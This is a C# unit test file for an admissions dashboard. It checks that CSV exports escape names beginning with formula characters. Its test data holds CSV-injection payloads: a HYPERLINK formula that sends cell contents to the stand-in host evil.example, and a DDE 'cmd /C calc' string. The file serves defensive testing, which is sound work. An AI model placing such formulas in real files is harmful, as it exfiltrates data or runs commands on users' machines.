using System.Text;
using Admissions.Application.Common;
using Admissions.Application.Dashboards;
using Admissions.Domain.Common;
using Admissions.Domain.Inquiries;
using Admissions.Domain.Placement;
using static Admissions.Application.Tests.Dashboards.DashboardData;

namespace Admissions.Application.Tests.Dashboards;

/// <summary>
/// Names people type (a referral organisation, its contact, a program, a coordinator's display name) reach the CSV
/// downloads; a name a spreadsheet would run as a formula must arrive as text in every one of them.
/// </summary>
public sealed class CsvInjectionTests : IAsyncLifetime
{
    private const string Formula = "=HYPERLINK(\"http://evil.example/x?\"&A1,\"Click\")";
    private static readonly DashboardFilter March = new() { From = new DateOnly(2026, 3, 1), To = new DateOnly(2026, 3, 9) };
    private static readonly char[] InjectionStarts = ['=', '+', '-', '@', '\t', '\r'];
    private TestHost _host = default!;

    public async Task InitializeAsync()
    {
        _host = await TestHost.StartAsync();
        var data = new DashboardData(_host);
        var facility = await data.FacilityAsync();
        var organisation = new ReferralOrganisation { Name = Formula, ContactName = "+1 555 0100 @front desk", CreatedAt = TestHost.StartTime.AddYears(-1) };
        await using (var db = _host.CreateDbContext())
        {
            db.ReferralOrganisations.Add(organisation);
            var program = new TreatmentProgram { FacilityId = facility.Id, Name = "-Residential " + Formula, Level = Domain.Care.LevelOfCare.Residential, DailyRate = 850, TypicalLengthOfStayDays = 30 };
            var unit = new CareUnit { FacilityId = facility.Id, ProgramId = program.Id, Name = "North" };
            db.TreatmentPrograms.Add(program);
            db.CareUnits.Add(unit);
            db.Beds.Add(new Bed { UnitId = unit.Id, Label = "N1" });
            await db.SaveChangesAsync();
        }

        var coordinator = new Actor(_host.Coordinator.Id, "@SUM(1+1)*cmd|' /C calc'!A0");
        for (var i = 0; i < 12; i++)
        {
            data.Add(Utc(3, 2, 10, i), 3, i < 11 ? InquiryStage.Admitted : InquiryStage.NotAdmitted, Utc(3, 4, 10), i < 11 ? null : NotAdmittedReason.Declined,
                coordinator: coordinator, source: InquirySource.Referral, organisation: organisation);
        }

        await data.SaveAsync();
    }

    public async Task DisposeAsync() => await _host.DisposeAsync();

    public static TheoryData<DashboardTable, BreakdownDimension, string?> Exports() => new()
    {
        { DashboardTable.Overview, BreakdownDimension.Source, null },
        { DashboardTable.Funnel, BreakdownDimension.Source, null },
        { DashboardTable.Trends, BreakdownDimension.Source, null },
        { DashboardTable.Breakdown, BreakdownDimension.Source, null },
        { DashboardTable.Breakdown, BreakdownDimension.ReferralOrganisation, "'" + Formula },
        { DashboardTable.Breakdown, BreakdownDimension.Coordinator, "'@SUM(1+1)*cmd|' /C calc'!A0" },
        { DashboardTable.Breakdown, BreakdownDimension.Payer, null },
        { DashboardTable.Breakdown, BreakdownDimension.LevelOfCare, null },
        { DashboardTable.LostReasons, BreakdownDimension.Source, null },
        { DashboardTable.Census, BreakdownDimension.Source, "'-Residential " + Formula },
        { DashboardTable.Authorizations, BreakdownDimension.Source, null },
        { DashboardTable.Scorecard, BreakdownDimension.Source, "'@SUM(1+1)*cmd|' /C calc'!A0" },
        { DashboardTable.ReferralSources, BreakdownDimension.Source, "'" + Formula },
    };

    [Theory]
    [MemberData(nameof(Exports))]
    public async Task No_cell_of_an_export_starts_as_a_formula(DashboardTable table, BreakdownDimension dimension, string? escaped)
    {
        var file = await _host.SendAsync(_host.Manager, new ExportDashboardCsv(table, March, dimension));

        var cells = Csv.Parse(Encoding.UTF8.GetString(file.Content)).SelectMany(row => row).ToList();
        Assert.NotEmpty(cells);
        Assert.DoesNotContain(cells, cell => cell.Length > 0 && InjectionStarts.Contains(cell[0]));
        if (escaped is not null)
        {
            Assert.Contains(escaped, cells);
        }
    }

    [Fact]
    public async Task The_referral_contact_is_escaped_too()
    {
        var file = await _host.SendAsync(_host.Manager, new ExportDashboardCsv(DashboardTable.ReferralSources, March));

        Assert.Contains("'+1 555 0100 @front desk", Csv.Parse(Encoding.UTF8.GetString(file.Content)).SelectMany(row => row));
    }

    [Fact]
    public void Every_kind_of_formula_start_is_written_as_text()
    {
        var text = Encoding.UTF8.GetString(SafeCsv.Write([["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "plain", "a=b"]]));

        Assert.Equal(["'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "plain", "a=b"], Assert.Single(Csv.Parse(text)));
    }

    /// <summary>RFC 4180 as a spreadsheet reads it: quoted fields may hold commas, quotes (doubled) and line breaks.</summary>
    private static class Csv
    {
        public static List<List<string>> Parse(string text)
        {
            var rows = new List<List<string>>();
            var row = new List<string>();
            var field = new StringBuilder();
            var quoted = false;
            for (var i = 0; i < text.Length; i++)
            {
                var c = text[i];
                if (quoted)
                {
                    if (c == '"' && i + 1 < text.Length && text[i + 1] == '"')
                    {
                        field.Append('"');
                        i++;
                    }
                    else if (c == '"')
                    {
                        quoted = false;
                    }
                    else
                    {
                        field.Append(c);
                    }
                }
                else if (c == '"' && field.Length == 0)
                {
                    quoted = true;
                }
                else if (c == ',')
                {
                    row.Add(field.ToString());
                    field.Clear();
                }
                else if (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n')
                {
                    row.Add(field.ToString());
                    field.Clear();
                    rows.Add(row);
                    row = [];
                    i++;
                }
                else
                {
                    field.Append(c);
                }
            }

            if (field.Length > 0 || row.Count > 0)
            {
                row.Add(field.ToString());
                rows.Add(row);
            }

            return rows;
        }
    }
}
